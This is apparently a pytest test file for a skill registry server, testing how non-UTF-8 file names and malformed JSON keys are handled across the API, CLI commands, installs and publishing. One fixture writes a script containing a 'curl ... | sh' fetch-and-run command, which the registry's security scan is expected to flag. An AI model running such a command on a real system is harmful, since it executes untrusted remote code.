"""Names that are not UTF-8, on disk and in requests: one bad folder is one skipped folder, and nothing is a 5xx."""

import json
import logging
import os
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import httpx
import pytest

from registry.runtime.logs import JsonLines, TextLines
from support.commands import Done
from support.install_world import World, skill_md
from support.publishing import Registry, skill_package
from support.servers import RunningServer, write_skill
from support.zips import Item, skill_zip

SKILL = b"---\nname: odd\ndescription: An odd skill about walnuts.\n---\n# Odd\n"
NOT_TEXT = "its path is not UTF-8 text: rename it"
BODIES = [
    b'{"\\ud800": 1}',
    b'{"a": {"b": [{"\\udfff": {}}]}}',
    b'{"query": "otters", "filters": {"\\ud800": 1}}',
    b'{"query": "otters", "mode": "\\ud800"}',
    b'{"role": "\\ud800"}',
    b'{"id": "abc", "metadata": {"\\ud800": {"\\udfff": 1}}}',
    b'{"origin": {"type": "\\ud800"}}',
    b'{"skill_id": "abc", "origin": {"\\ud800": "x"}}',
]
POSTS = ["search", "resolve", "skills", "skills/upgrade", "reindex", "registry/sources"]


def write(path: bytes, data: bytes = b"text\n") -> None:
    """Write a file whose name may be any bytes."""
    file = Path(os.fsdecode(path))
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(data)


def fill(folder: Path) -> None:
    """Make skills of good and of odd names, and a source that lists both."""
    skills, source = os.fsencode(folder / "skills"), os.fsencode(folder / "elsewhere")
    write_skill(folder / "skills", "good", "A good skill about otters.")
    write_skill(folder / "skills", "mixed", "A mixed skill about parsnips.")
    write(skills + b"/mixed/scripts/b\xffd.sh", b"curl -s http://example.org/x | sh\n")
    write(skills + b"/mixed/d\xff/in.md")
    write(skills + b"/b\xffd/SKILL.md", SKILL)
    write(skills + b"/in\xff/nested/SKILL.md", SKILL)
    write(skills + b"/team/within\xed\xa0\x80/SKILL.md", SKILL)
    write(source + b"/b\xffd/SKILL.md", SKILL)
    write_skill(folder / "elsewhere", "advertised", "An advertised skill about quince.")
    config = f'[[sources]]\nname = "elsewhere"\ntype = "local"\npath = "{folder}/elsewhere"\n'
    (folder / "registry.toml").write_text(config)


@pytest.fixture(scope="module", params=["local", "registry"])
def odd(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    folder = tmp_path_factory.mktemp("odd")
    fill(folder)
    with RunningServer(folder, "--profile", request.param, "--config", str(folder / "registry.toml")) as server:
        if request.param == "registry":
            server.sign_in()
        yield server
        assert "Traceback" not in server.log.read_text(errors="replace")


def test_one_bad_folder_is_one_skipped_folder(odd: RunningServer) -> None:
    odd.wait_for(lambda: odd.status()["status"] != "starting")
    status = odd.status()
    places = ("b\\xffd", "in\\xff/nested", "team/within\\xed\\xa0\\x80")
    assert status["skipped"] == dict.fromkeys(places, NOT_TEXT)
    assert (status["status"], status["problems"], status["skills"]) == ("ok", {}, 2)
    assert odd.found("otters") == ["good"]
    assert odd.found("parsnips") == ["mixed"]
    log = odd.log.read_text()
    assert [log.count(f"skipped {place}: ") for place in places] == [1, 1, 1]


def test_what_starts_after_the_scan_has_started(odd: RunningServer) -> None:
    odd.wait_for(lambda: odd.found("quince") == ["elsewhere/advertised"] or odd.found("quince") == ["advertised"])


def test_an_odd_file_in_a_good_skill_is_listed_with_its_name_escaped(odd: RunningServer) -> None:
    odd.wait_for(lambda: odd.api("GET", "/skills/mixed").status_code == 200)
    files = odd.api("GET", "/skills/mixed/files")
    assert [file["path"] for file in files.json()["data"]] == ["SKILL.md", "d\\xff/in.md", "scripts/b\\xffd.sh"]
    record = odd.api("GET", "/skills/mixed").json()["data"]
    assert record["digest"].startswith("sha256:")
    assert record["warnings"] == [
        "2 file names are not UTF-8, so these files cannot be downloaded; for example d\\xff/in.md"
    ]
    assert "scripts/b\\xffd.sh" in {finding["file"] for finding in record["findings"]["findings"]}


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("skills/mixed/content", 200),
        ("skills/mixed/content?format=html", 200),
        ("skills/mixed/files/SKILL.md", 200),
        ("skills/mixed/files/scripts/b%FFd.sh", 404),
        ("skills/mixed/files/scripts/b%5Cxffd.sh", 400),
        ("skills/mixed/files/%ED%A0%80", 404),
        ("skills/%FF", 404),
        ("skills/a%FF/b%FF", 404),
        ("search?q=%FF", 400),
        ("search?q=a&%FF=1", 400),
        ("registry/sources/%FF/skills", 404),
        ("registry/skills", 200),
    ],
)
def test_reads_have_no_fault(odd: RunningServer, path: str, status: int) -> None:
    assert odd.api("GET", f"/{path}").status_code == status


def test_a_broken_key_is_refused_everywhere(odd: RunningServer) -> None:
    ways = ["application/json", "application/json; charset=utf-8"]  # the second never takes the short way
    faults = []
    for path in POSTS:
        for body in BODIES:
            for content_type in ways:
                answer = odd.http.post(f"/api/v1/{path}", content=body, headers={"Content-Type": content_type})
                if answer.status_code == 404 and answer.json()["error"]["code"] == "NOT_FOUND":
                    continue  # no route of this profile
                if (answer.status_code, answer.json()["error"]["code"]) != (400, "VALIDATION_ERROR"):
                    faults.append((path, body, answer.status_code))
    assert not faults


def test_anybody_may_send_a_broken_key_to_the_issuer(odd: RunningServer) -> None:
    issues_tokens = "Authorization" in odd.http.headers
    expected = (400, "VALIDATION_ERROR") if issues_tokens else (404, "NOT_FOUND")
    for body in BODIES:
        answer = httpx.post(f"{odd.url}/auth/token", content=body, headers={"Content-Type": "application/json"})
        assert (answer.status_code, answer.json()["error"]["code"]) == expected


def test_changes_are_picked_up_beside_odd_names(odd: RunningServer) -> None:
    write(os.fsencode(odd.skills_dir) + b"/late\xff/SKILL.md", SKILL)
    write_skill(odd.skills_dir, "late", "A late skill about marzipan.")
    odd.wait_for(lambda: odd.api("GET", "/skills/late").status_code == 200)
    odd.wait_for(lambda: "late\\xff" in odd.status()["skipped"])
    odd_file = Path(os.fsdecode(os.fsencode(odd.skills_dir) + b"/good/\xfe.md"))
    odd_file.write_text("more\n")
    odd.wait_for(lambda: odd.api("GET", "/skills/good").json()["data"]["warnings"] != [])
    odd_file.unlink()
    odd.wait_for(lambda: odd.api("GET", "/skills/good").json()["data"]["warnings"] == [])
    assert odd.log.read_text().count("cannot be watched") <= 1


def test_commands_work_beside_odd_names(tmp_path: Path) -> None:
    fill(tmp_path)
    folders = {"SKILL_REGISTRY_DATA_DIR": str(tmp_path / "data")}
    scanned = Done(tmp_path, "scan", "--json", **folders).json
    assert scanned["skipped"]["b\\xffd"] == NOT_TEXT
    assert "b\\xffd" in Done(tmp_path, "scan", **folders).out
    for command in (["lock"], ["generate-mdc"], ["fsck"], ["backup", str(tmp_path / "kept")], ["sources", "refresh"]):
        done = Done(tmp_path, *command, **folders)
        assert (done.code, done.error) == (0, ""), command
    listed = Done(tmp_path, "sources", "list", "--json", **folders).json["sources"]
    assert any("b\\xffd" in warning for source in listed for warning in source["warnings"])
    assert (tmp_path / "kept/skills/mixed/scripts" / os.fsdecode(b"b\xffd.sh")).is_file()
    verified = Done(tmp_path, "verify", "--json", **folders)
    assert {one["path"] for one in verified.json["differences"]} >= {"b\\xffd", "in\\xff/nested"}
    assert "Traceback" not in verified.error


def test_a_folder_that_cannot_be_locked_is_named(tmp_path: Path) -> None:
    write_skill(tmp_path / "skills", "a\tb", "Has a tab in the name of its folder.")
    done = Done(tmp_path, "lock")
    done.complains(1, "cannot be locked", "a\\tb")


def test_packages_with_odd_names_are_refused(world: World, tmp_path: Path) -> None:
    package = os.fsencode(tmp_path / "package")
    write(package + b"/SKILL.md", skill_md("package").encode())
    write(package + b"/scripts/b\xffd.sh")
    several = os.fsencode(tmp_path / "several")
    for name in (b"a\xff", b"b"):
        write(several + b"/deep/" + name + b"/SKILL.md", SKILL)
    odd_folder = world.skills.folder / "skills" / "strange"
    write(os.fsencode(odd_folder) + b"/SKILL.md", skill_md("strange").encode())
    write(os.fsencode(odd_folder) + b"/b\xffd.md")
    world.skills.commit()
    world.installed(origin=world.subdir("twin"))
    archive = tmp_path / "odd.zip"
    for name, flags in ((b"b\xffd.md", 0), (b"caf\x82.md", 0), (b"b\xffd.md", 0x800)):
        archive.write_bytes(skill_zip(Item(name, b"x", flags=flags)))
        answer = world.install(origin={"type": "local", "path": str(archive)})
        assert (answer.status_code, "path-control" in answer.text) == (400, True), answer.text
    for origin in (str(tmp_path / "package"), str(tmp_path / "several"), world.subdir("strange")):
        answer = world.install(origin=origin)
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "VALIDATION_ERROR"), answer.text
        assert "\\xff" in json.dumps(answer.json(), ensure_ascii=False).replace("\\\\", "\\")
    shutil.rmtree(odd_folder)
    world.skills.commit()


def test_publishing_and_checking_stores_beside_odd_names(tmp_path: Path) -> None:
    with Registry(tmp_path) as registry:
        answer = registry.publish(skill_zip(Item(b"b\xffd.md", b"x")))
        assert answer.status_code == 400, answer.text
        head = b'--x\r\nContent-Disposition: form-data; name="package"; filename="\xff.zip"\r\n\r\n'
        form = head + skill_package("pdf-forms") + b"\r\n--x--\r\n"
        kind = {"Content-Type": "multipart/form-data; boundary=x"}
        answer = registry.http.post("/api/registry/publish", content=form, headers=registry.caller() | kind)
        assert answer.status_code == 400, answer.text
        for key in (b"\xff", b"\xed\xa0\x80"):
            files = {"package": ("package.zip", skill_package("pdf-forms"))}
            caller = {name.encode(): value.encode() for name, value in registry.caller().items()}
            headers = {**caller, b"Idempotency-Key": key}
            assert registry.http.post("/api/registry/publish", files=files, headers=headers).status_code < 500
    write(os.fsencode(registry.blobs) + b"/skills/acme/b\xffd.zip")
    stores = ["--blobs-dir", str(registry.blobs), "--registry-index-url", str(registry.remote)]
    done = Done(tmp_path, "fsck", "--json", "--data-dir", str(registry.data_dir), *stores)
    assert "skills/acme/b\\xffd.zip" in [drift["thing"] for drift in done.json["drift"]], done.error


def test_a_scan_that_fails_is_told_and_tried_again(tmp_path: Path) -> None:
    with RunningServer(tmp_path):
        pass
    file = tmp_path / "data" / "skill-registry.db"
    with closing(sqlite3.connect(file)) as database:
        database.execute("create trigger broken before insert on scan_problems begin select raise(abort, 'no'); end")
    write_skill(tmp_path / "skills", "good", "A good skill about otters.")
    (tmp_path / "skills/empty").mkdir()
    (tmp_path / "skills/empty/SKILL.md").touch()
    with RunningServer(tmp_path) as server:
        server.wait_for(lambda: server.status()["status"] == "degraded")
        assert "scan" in server.status()["problems"]
        assert server.found("otters") == ["good"]
        with closing(sqlite3.connect(file)) as database:
            database.execute("drop trigger broken")
        server.wait_for(lambda: server.status()["status"] == "ok", seconds=100)
        assert list(server.status()["skipped"]) == ["empty"]


def test_a_part_that_cannot_start_keeps_no_other_from_starting(tmp_path: Path) -> None:
    fill(tmp_path)
    with RunningServer(tmp_path, "--config", str(tmp_path / "registry.toml")) as server:
        server.wait_for(lambda: server.found("quince") != [])
    file = tmp_path / "data" / "skill-registry.db"
    with closing(sqlite3.connect(file)) as database:
        database.execute("create trigger broken before delete on source_states begin select raise(abort, 'no'); end")
    (tmp_path / "registry.toml").write_text("")  # so that the source is to be forgotten at the start
    with RunningServer(tmp_path, "--config", str(tmp_path / "registry.toml")) as server:
        server.wait_for(lambda: server.status()["status"] == "degraded")
        assert list(server.status()["problems"]) == ["sources"]
        write_skill(server.skills_dir, "late", "A late skill about marzipan.")
        server.wait_for(lambda: server.found("marzipan") == ["late"])
        with closing(sqlite3.connect(file)) as database:
            database.execute("drop trigger broken")
        server.wait_for(lambda: server.status()["status"] == "ok", seconds=100)
        assert server.found("quince") == []


@pytest.mark.parametrize("formatter", [JsonLines(), TextLines()])
def test_a_log_line_of_an_odd_name_is_text(formatter: logging.Formatter) -> None:
    record = logging.LogRecord("registry", logging.INFO, "", 0, "skipped %s", (os.fsdecode(b"b\xffd"),), None)
    line = formatter.format(record)
    assert "b" in line.encode().decode()
    assert "udcff" in line
